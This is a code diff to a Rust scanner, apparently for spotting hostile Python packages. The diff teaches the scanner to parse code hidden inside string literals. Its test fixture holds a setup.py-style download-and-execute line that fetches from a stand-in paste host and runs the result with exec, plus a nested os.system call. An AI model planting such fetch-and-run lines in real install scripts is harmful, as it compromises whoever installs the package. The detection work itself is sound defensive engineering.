@@ -8,9 +8,19 @@ use super::{Call, Facts, Lines};
 use rustpython_ast::{self as ast, Visitor};
 use std::collections::HashMap;
 
+/// Longest string literal read as code of its own.
+const MAX_EMBEDDED: usize = 64 * 1024;
+
+/// How deep code inside string literals is read (code in a string in a string …).
+const MAX_DEPTH: u32 = 2;
+
 /// The facts of one Python file.
 pub(crate) fn facts(path: &str, source: &str) -> Facts {
-    let mut walker = Walker { lines: Lines::new(source), aliases: HashMap::new(), facts: Facts::default() };
+    facts_at(path, source, 0)
+}
+
+fn facts_at(path: &str, source: &str, depth: u32) -> Facts {
+    let mut walker = Walker { lines: Lines::new(source), aliases: HashMap::new(), facts: Facts::default(), depth };
     match rustpython_parser::parse(source, rustpython_parser::Mode::Module, path) {
         Ok(ast::Mod::Module(m)) => {
             walker.facts.parsed = true;
@@ -29,6 +39,8 @@ struct Walker {
     /// Local names for modules and their members: `sp` → `subprocess`, `system` → `os.system`.
     aliases: HashMap<String, String>,
     facts: Facts,
+    /// How deep inside string literals this code sits.
+    depth: u32,
 }
 
 impl Walker {
@@ -57,6 +69,28 @@ impl Walker {
 }
 
 impl Walker {
+    /// Code carried in a string literal (written to a file and run, passed to `exec` or to
+    /// `python -c`): when it parses as Python, its calls, strings and imports are this file's,
+    /// at the literal's line, so `"exec(urlopen(u).read())"` in a string is a download and
+    /// execute like the same code outside one.
+    fn embedded(&mut self, text: &str, line: u32) {
+        if self.depth >= MAX_DEPTH || text.len() < 16 || text.len() > MAX_EMBEDDED || !looks_like_code(text) {
+            return;
+        }
+        let inner = facts_at("<string>", text, self.depth + 1);
+        if !inner.parsed {
+            return;
+        }
+        let at = |mut c: Call| {
+            c.line = line;
+            c
+        };
+        self.facts.calls.extend(inner.calls.into_iter().map(at));
+        self.facts.strings.extend(inner.strings.into_iter().map(|(s, _)| (s, line)));
+        self.facts.imports.extend(inner.imports.into_iter().map(|(s, _)| (s, line)));
+        self.facts.env_dumps.extend(inner.env_dumps.iter().map(|_| line));
+    }
+
     /// The calls inside an argument, through attributes, subscripts and nested calls:
     /// `requests.get(u).text` holds `requests.get`.
     fn inner_calls(&self, e: &ast::Expr, out: &mut Vec<String>, depth: u32) {
@@ -191,13 +225,40 @@ impl Visitor for Walker {
             _ => return,
         };
         let line = self.line(node.range);
+        self.embedded(&text, line);
         self.facts.strings.push((text, line));
     }
+}
+
+/// Whether a string holds Python statements worth parsing: an import or a call that runs
+/// code or programs, beside a statement separator or a call.
+fn looks_like_code(text: &str) -> bool {
+    (text.contains("import ") || text.contains("exec(") || text.contains("eval(") || text.contains("system("))
+        && text.contains('(')
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn code_inside_a_string_is_read_at_the_strings_line() {
+        let f = facts(
+            "setup.py",
+            "from tempfile import NamedTemporaryFile\nt = NamedTemporaryFile(delete=False)\nt.write(b\"\"\"from urllib.request import urlopen as u;exec(u('https://paste.example/raw').read())\"\"\")\n",
+        );
+        let exec = f.calls.iter().find(|c| c.name == "exec").expect("exec inside the bytes literal");
+        assert_eq!(exec.line, 3);
+        assert!(exec.inner.iter().any(|i| i == "urllib.request.urlopen"), "{:?}", exec.inner);
+        // Prose, and code nested deeper than the bound, are not read as code.
+        let prose = facts("a.py", "x = 'Please import the module (see docs) before use.'\n");
+        assert!(prose.calls.is_empty());
+        let deep = facts(
+            "a.py",
+            &format!("a = {:?}\n", format!("b = {:?}", format!("c = {:?}", "import os; os.system('id')"))),
+        );
+        assert!(deep.calls.iter().all(|c| c.name != "os.system"), "{:?}", deep.calls);
+    }
 
     #[test]
     fn callees_resolve_through_imports_and_dunder_import() {
